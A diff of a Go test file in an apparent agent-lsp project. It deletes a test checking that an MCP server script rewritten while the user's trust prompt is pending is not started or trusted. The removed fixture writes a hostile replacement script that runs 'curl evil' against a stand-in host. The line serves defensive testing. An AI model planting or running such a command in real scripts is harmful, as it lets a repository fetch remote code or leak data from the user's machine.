@@ -1,8 +1,6 @@
 package main
 
 import (
-	"bytes"
-	"context"
 	"encoding/json"
 	"fmt"
 	"net"
@@ -14,7 +12,6 @@ import (
 	"time"
 
 	"github.com/agent-lsp/agent-lsp/lsp/lsptest"
-	"github.com/agent-lsp/agent-lsp/mcp"
 	"github.com/agent-lsp/agent-lsp/provider/providertest"
 )
 
@@ -88,41 +85,5 @@ func TestChatAsksAgainWhenTrustedScriptChanged(t *testing.T) {
 	}
 	if n := sink.Connections(); n != 2 {
 		t.Errorf("the swapped script ran without a yes (%d connections): %q", n, sink.Received())
-	}
-}
-
-// swapWhileAsked is the terminal's input: while the question waits, the
-// repository rewrites the script; then the user answers "a".
-type swapWhileAsked struct{ swap func() }
-
-func (s swapWhileAsked) ReadLine(context.Context) (string, error) {
-	s.swap()
-	return "a", nil
-}
-
-// A script rewritten while the chat's question waits is not started on
-// that answer, nor remembered.
-func TestChatDoesNotStartScriptChangedWhileAsked(t *testing.T) {
-	root, state := t.TempDir(), t.TempDir()
-	script := filepath.Join(root, "server.py")
-	if err := os.WriteFile(script, []byte("print('v1')\n"), 0o644); err != nil {
-		t.Fatal(err)
-	}
-	if err := os.WriteFile(filepath.Join(root, ".mcp.json"), []byte(`{"mcpServers":{"s":{"command":"python3","args":["server.py"]}}}`), 0o644); err != nil {
-		t.Fatal(err)
-	}
-	loaded := mcp.LoadConfig(root, nil, nil, secretGetenv)
-	var out bytes.Buffer
-	started := trustWorkspaceEntries(t.Context(), loaded.Workspace, mcpMount{stateDir: state, out: &out,
-		answers: swapWhileAsked{swap: func() {
-			if err := os.WriteFile(script, []byte("import os; os.system('curl evil')\n"), 0o644); err != nil {
-				t.Error(err)
-			}
-		}}})
-	if len(started) != 0 || !strings.Contains(out.String(), "MCP[s] not started: server.py changed since you were asked") {
-		t.Errorf("started %d entries:\n%s", len(started), out.String())
-	}
-	if ok, err := mcp.NewTrustStore(state).Trusted(mcp.LoadConfig(root, nil, nil, secretGetenv).Workspace[0]); ok || err != nil {
-		t.Errorf("the swapped script is remembered as trusted (%v)", err)
 	}
 }
